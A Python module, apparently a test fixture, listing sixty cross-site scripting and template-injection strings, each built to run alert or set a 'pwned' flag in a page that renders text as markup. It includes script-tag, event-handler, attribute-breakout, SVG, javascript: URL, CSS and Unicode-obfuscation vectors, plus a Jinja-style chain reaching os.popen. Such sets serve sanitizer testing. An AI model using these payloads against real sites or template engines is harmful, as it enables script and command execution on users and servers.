"""Sixty texts that would run something in a page that takes a text for markup: each calls `alert` or sets `pwned`."""

from __future__ import annotations

RUNS = "alert(1);window.pwned=1"

PAYLOADS = (
    # elements
    f"<script>{RUNS}</script>",
    f"<SCRIPT>{RUNS}</SCRIPT >",
    f"<script\n>{RUNS}</script\t>",
    f"</script><script>{RUNS}</script>",
    f"</ScRiPt ><script>{RUNS}//",
    f"<scr<script>ipt>{RUNS}</scr</script>ipt>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<script type=module>alert(1)</script>",
    f"--><script>{RUNS}</script><!--",
    f"]]><script>{RUNS}</script>",
    f"</title><script>{RUNS}</script>",
    f"</style><script>{RUNS}</script>",
    f"</textarea><script>{RUNS}</script>",
    f"</pre></td></tr></table><script>{RUNS}</script>",
    f"</option></select><script>{RUNS}</script>",
    f"</svg><script>{RUNS}</script>",
    f"<noscript><p title='</noscript><script>{RUNS}</script>'>",
    f"<template><script>{RUNS}</script></template>",
    # handlers
    f"<img src=x onerror={RUNS}>",
    f"<img src=x onerror='{RUNS}'",
    f"<body onload={RUNS}>",
    f"<input autofocus onfocus={RUNS}>",
    f"<details open ontoggle={RUNS}>",
    f"<video><source onerror={RUNS}>",
    f"<audio src=x onerror={RUNS}>",
    f"<marquee onstart={RUNS}>",
    f"<p onanimationstart={RUNS} class=dim>",
    f"<div onpointerover={RUNS}>over</div>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='data:text/html,<script>alert(1)</script>'>",
    f"<form><button formaction='javascript:{RUNS}'>x</button></form>",
    # out of an attribute
    f'" onmouseover="{RUNS}',
    f"' onmouseover='{RUNS}",
    f'"><svg onload={RUNS}>',
    f"'><img src=x onerror={RUNS}>",
    f"` onmouseover=`{RUNS}",
    f"x onfocus={RUNS} autofocus tabindex=1",
    # drawings
    f"<svg onload={RUNS}>",
    f"<svg><script>{RUNS}</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate href=#ok attributeName=href values=javascript:alert(1) />",
    f"<svg><set onbegin={RUNS} attributeName=x to=1>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUNS}>",
    # addresses
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "javascript:alert(1)",
    "<base href='javascript:/a/-alert(1)///'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='data:text/css,*{background:url(x)}'>",
    # styles
    f"<style>@import 'x';*{{animation:a}}@keyframes a{{}}</style><b onanimationend={RUNS}>",
    "<p style='background:url(javascript:alert(1))'>",
    "}</style><style>body{display:none",
    # templates and scripts that hold a text
    "{{ cycler.__init__.__globals__.os.popen('true') }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    f"${{{RUNS}}}`-alert(1)-`",
    f"\\u003cscript\\u003e{RUNS}\\u003c/script\\u003e",
    # letters that look or sort otherwise
    f"＜script＞{RUNS}＜/script＞ \u202e<script>{RUNS}</script>\u2028\u2029\u0000\ufeff",
    f"&lt;script&gt;{RUNS}&lt;/script&gt;&#60;img src=x onerror={RUNS}&#62;",
)
assert len(PAYLOADS) == len(set(PAYLOADS)) == 60
